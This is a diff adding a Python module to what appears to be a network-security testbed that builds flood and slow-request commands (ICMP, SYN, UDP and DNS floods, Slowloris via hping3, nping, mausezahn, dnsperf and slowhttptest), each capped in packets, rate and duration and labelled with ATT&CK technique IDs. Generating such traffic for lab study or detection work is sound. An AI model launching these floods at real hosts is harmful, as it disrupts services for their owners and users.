@@ -1,0 +1,242 @@
+"""Floods and slow requests: each bounded in packets, rate and time."""
+
+from __future__ import annotations
+
+import random
+
+from testbed.attacks.tool import Commands, Target, Tool, words
+
+ICMP, SYN, UDP, DNS, SLOW = "ICMP Flood", "SYN Flood", "UDP Flood", "DNS Flood", "Slowloris"
+FLOOD, REFLECTED, EXHAUST, SERVICE = "T1498.001", "T1498", "T1499.001", "T1499.002"
+# A burst is one call of a tool; a flood is several, each with header fields of its own.
+BURSTS = 8
+WINDOWS = (64, 512, 1024, 5840, 8192, 29200, 65535)
+LETTERS = "abcdefghijklmnopqrstuvwxyz0123456789"
+RATES = (150, 220, 300)
+# mausezahn waits whole milliseconds.
+SLOW_RATES = (125, 200, 250)
+
+
+def _micros(rate: int) -> str:
+    return f"u{1_000_000 // rate}"
+
+
+def _millis(rate: int) -> str:
+    return f"{1000 // rate}msec"
+
+
+def _bursts(total: int) -> list[int]:
+    return [total // BURSTS] * BURSTS
+
+
+def _ping(target: Target, s: dict, rng: random.Random) -> Commands:
+    return [
+        words(
+            f"ping {target.family or '-4'} -q -n -c {s['packets'] // 2} -i {1 / s['rate']:.4f} "
+            f"-s {size} -p {rng.randrange(65536):04x} -W 1 {target.address}"
+        )
+        for size in (s["size"], rng.randrange(8, 1200))
+    ]
+
+
+def _hping_icmp(target: Target, s: dict, rng: random.Random) -> Commands:
+    def burst(count: int) -> list[str]:
+        data = f"-d {s['size'] + rng.randrange(48)} -E {target.files}/random.bin"
+        return words(
+            f"hping3 -q -n -1 -C {s['type']} -c {count} -i {_micros(s['rate'])} "
+            f"{data if s['type'] == 8 else ''} -t {rng.choice((32, 64, 128, 255))} {target.address}"
+        )
+
+    return [burst(count) for count in _bursts(s["packets"])]
+
+
+def _nping_icmp(target: Target, s: dict, rng: random.Random) -> Commands:
+    return [
+        words(
+            f"nping {target.family} --icmp -H --quiet --rate {s['rate']} -c {count} "
+            f"--icmp-id {rng.randrange(65536)} --data-length {rng.randrange(4, s['size'])} "
+            f"{target.address}"
+        )
+        for count in _bursts(s["packets"])
+    ]
+
+
+def _hping_syn(target: Target, s: dict, rng: random.Random) -> Commands:
+    def burst(count: int) -> list[str]:
+        options = {
+            "none": "",
+            "mss": f"--tcp-mss {rng.randrange(536, 1461)}",
+            "timestamp": "--tcp-timestamp",
+            "payload": f"-d {rng.randrange(8, 96)} -E {target.files}/random.bin",
+        }[s["options"]]
+        return words(
+            f"hping3 -q -n -S -p {s['port']} -c {count} -i {_micros(s['rate'])} "
+            f"-w {rng.choice(WINDOWS)} {options} {target.address}"
+        )
+
+    return [burst(count) for count in _bursts(s["packets"])]
+
+
+def _nping_syn(target: Target, s: dict, rng: random.Random) -> Commands:
+    return [
+        words(
+            f"nping {target.family} --tcp -H --quiet -p {s['port']} --flags {s['flags']} "
+            f"--win {rng.randrange(1, 65536)} --rate {s['rate']} -c {count} "
+            f"{f'--data-length {rng.randrange(1, 90)}' if s['payload'] else ''} {target.address}"
+        )
+        for count in _bursts(s["packets"])
+    ]
+
+
+def _mausezahn_syn(target: Target, s: dict, rng: random.Random) -> Commands:
+    return [
+        words(
+            f"mausezahn {target.frame} -c {count} -d {_millis(s['rate'])} "
+            f"{f'-p {rng.randrange(1, 90)}' if s['payload'] else ''} "
+            f"-t tcp flags=syn,dp={s['port']},sp=1025-65000,win={rng.randrange(1, 65536)}"
+        )
+        for count in _bursts(s["packets"])
+    ]
+
+
+def _hping_udp(target: Target, s: dict, rng: random.Random) -> Commands:
+    return [
+        words(
+            f"hping3 -q -n -2 -p {'++' if s['walk'] else ''}{s['port']} -c {count} "
+            f"-i {_micros(s['rate'])} -d {s['size'] + rng.randrange(64)} "
+            f"-E {target.files}/random.bin {target.address}"
+        )
+        for count in _bursts(s["packets"])
+    ]
+
+
+def _nping_udp(target: Target, s: dict, rng: random.Random) -> Commands:
+    return [
+        words(
+            f"nping {target.family} --udp -H --quiet -p {s['port']} --rate {s['rate']} -c {count} "
+            f"--data-length {rng.randrange(1, s['size'])} {target.address}"
+        )
+        for count in _bursts(s["packets"])
+    ]
+
+
+def _mausezahn_udp(target: Target, s: dict, rng: random.Random) -> Commands:
+    return [
+        words(
+            f"mausezahn {target.frame} -c {count} -d {_millis(s['rate'])} "
+            f"-p {rng.randrange(1, s['size'])} -t udp dp={s['port']},sp=1025-65000"
+        )
+        for count in _bursts(s["packets"])
+    ]
+
+
+def _dnsperf(target: Target, s: dict, rng: random.Random) -> Commands:
+    return [
+        words(
+            f"dnsperf -s {target.address} -d {target.files}/{s['names']}.txt -m {s['transport']} "
+            f"-Q {s['rate']} -l {s['packets'] // s['rate']} -c {s['clients']} -T 1"
+        )
+    ]
+
+
+def _mausezahn_dns(target: Target, s: dict, rng: random.Random) -> Commands:
+    def query() -> list[str]:
+        name = "".join(rng.choices(LETTERS, k=rng.randrange(4, 20)))
+        return words(
+            f"mausezahn {target.frame} -c {max(1, s['packets'] // 40)} -d {_millis(s['rate'])} "
+            f"-t dns q={name}.{s['zone']}"
+        )
+
+    return [query() for _ in range(40)]
+
+
+def _dig(target: Target, s: dict, rng: random.Random) -> Commands:
+    return [
+        words(
+            f"dig @{target.address} -f {target.files}/{s['names']}-dig.txt -t {s['type']} "
+            f"+tries=1 +time=1 +short {'+dnssec' if s['dnssec'] else ''}"
+        )
+    ]
+
+
+def _slowhttptest(target: Target, s: dict, rng: random.Random) -> Commands:
+    mode = {
+        "header": f"-H -x {rng.randrange(8, 40)} -t {rng.choice(('GET', 'POST'))}",
+        "body": f"-B -s {rng.randrange(2048, 16384)} -x {rng.randrange(4, 24)} -t POST",
+        "read": "-X -w 8 -y 64 -n 2 -z 16 -k 2 -t GET",
+    }[s["mode"]]
+    return [
+        words(
+            f"slowhttptest {mode} -c {s['connections']} -r {s['rate']} -i {s['interval']} "
+            f"-l {s['seconds']} -p 2 -u http://{target.in_url}:{s['port']}{s['path']}"
+        )
+    ]
+
+
+def _slow(mode: str, paths: tuple[str, ...]) -> Tool:
+    return Tool(
+        "slowhttptest",
+        f"slow {mode}",
+        SLOW,
+        SERVICE,
+        "web",
+        "tcp",
+        (80,),
+        {
+            "mode": (mode,),
+            "connections": (60, 120, 200),
+            "rate": (20, 50),
+            "interval": (2, 4),
+            "seconds": (20, 30),
+            "port": (80,),
+            "path": paths,
+        },
+        _slowhttptest,
+        40,
+        100,
+        ipv6=True,
+    )
+
+
+_PACKETS = {"packets": (640, 960, 1200)}
+
+# name, mode, class, technique, service, protocol, ports, settings, commands, seconds, packets/s
+TOOLS = (
+    Tool("ping", "echo requests with a pattern", ICMP, FLOOD, "", "icmp", (),
+         {**_PACKETS, "rate": (120, 180), "size": (56, 200, 900)}, _ping, 25, 200, ipv6=True),
+    Tool("hping3", "echo and timestamp requests", ICMP, FLOOD, "", "icmp", (),
+         {**_PACKETS, "rate": RATES, "size": (16, 64, 400), "type": (8, 8, 13)},
+         _hping_icmp, 25, 300),
+    Tool("nping", "echo requests with random data", ICMP, FLOOD, "", "icmp", (),
+         {**_PACKETS, "rate": RATES, "size": (32, 600)}, _nping_icmp, 25, 300, ipv6=True),
+    Tool("hping3", "SYNs with options or payload", SYN, EXHAUST, "web", "tcp", (80,),
+         {**_PACKETS, "rate": RATES, "port": (80,),
+          "options": ("none", "mss", "timestamp", "payload")}, _hping_syn, 25, 300),
+    Tool("nping", "SYNs with flags beside", SYN, EXHAUST, "web", "tcp", (80,),
+         {**_PACKETS, "rate": RATES, "port": (80,), "payload": (False, True),
+          "flags": ("syn", "syn,ece,cwr", "syn,psh")}, _nping_syn, 25, 300, ipv6=True),
+    Tool("mausezahn", "SYNs from walking ports", SYN, EXHAUST, "web", "tcp", (80,),
+         {**_PACKETS, "rate": SLOW_RATES, "port": (80,), "payload": (False, True)},
+         _mausezahn_syn, 25, 250),
+    Tool("hping3", "datagrams to one or rising ports", UDP, FLOOD, "", "udp", (),
+         {**_PACKETS, "rate": RATES, "port": (9, 4000, 20000), "walk": (False, True),
+          "size": (8, 120, 700)}, _hping_udp, 25, 300),
+    Tool("nping", "datagrams with random data", UDP, FLOOD, "", "udp", (7, 1900, 5683, 33434),
+         {**_PACKETS, "rate": RATES, "port": (7, 1900, 5683, 33434), "size": (64, 1000)},
+         _nping_udp, 25, 300, ipv6=True),
+    Tool("mausezahn", "datagrams from walking ports", UDP, FLOOD, "", "udp", (19, 123, 5060),
+         {**_PACKETS, "rate": SLOW_RATES, "port": (19, 123, 5060), "size": (64, 900)},
+         _mausezahn_udp, 25, 250),
+    Tool("dnsperf", "many names", DNS, REFLECTED, "dns", "any", (53,),
+         {**_PACKETS, "rate": RATES, "clients": (1, 8), "names": ("random", "known"),
+          "transport": ("udp", "udp", "tcp")}, _dnsperf, 25, 300, ipv6=True),
+    Tool("mausezahn", "queries for names that are not there", DNS, REFLECTED, "dns", "udp", (53,),
+         {**_PACKETS, "rate": SLOW_RATES, "zone": ("lab.example", "example.org")},
+         _mausezahn_dns, 30, 250),
+    Tool("dig", "a batch of queries", DNS, REFLECTED, "dns", "udp", (53,),
+         {"names": ("random", "known"), "type": ("A", "ANY", "TXT", "AAAA"),
+          "dnssec": (False, True)}, _dig, 25, 300, ipv6=True),
+    _slow("header", ("/", "/index.html")),
+    _slow("body", ("/", "/login")),
+    _slow("read", ("/firmware.bin", "/big.bin")),
+)  # fmt: skip
